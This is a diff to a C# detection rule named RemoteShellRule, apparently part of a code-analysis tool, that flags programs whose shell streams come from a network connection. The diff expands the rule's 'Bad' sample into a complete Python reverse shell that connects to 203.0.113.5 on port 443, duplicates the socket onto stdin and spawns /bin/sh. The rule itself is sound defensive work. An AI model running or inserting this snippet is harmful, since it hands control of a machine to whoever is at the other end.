@@ -10,11 +10,19 @@ public sealed class RemoteShellRule() : EffectRule(
         What: "A program or shell whose command or streams come from a network connection: given as an argument, or put in the place of a standard stream by `os.dup2`.",
         Why: "This is a remote shell: whoever is at the other end works on the machine.",
         Bad: """
-            connection = socket.create_connection((host, port))
+            import os
+            import pty
+            import socket
+
+            connection = socket.create_connection(("203.0.113.5", 443))
             os.dup2(connection.fileno(), 0)
             pty.spawn("/bin/sh")
             """,
-        Good: "# neither connections nor programs in nodes",
+        Good: """
+            import json
+
+            print(json.dumps({"signal": 1}))  # neither connections nor programs in nodes
+            """,
         Allow: Allowing.Points),
     "process.streams")
 {
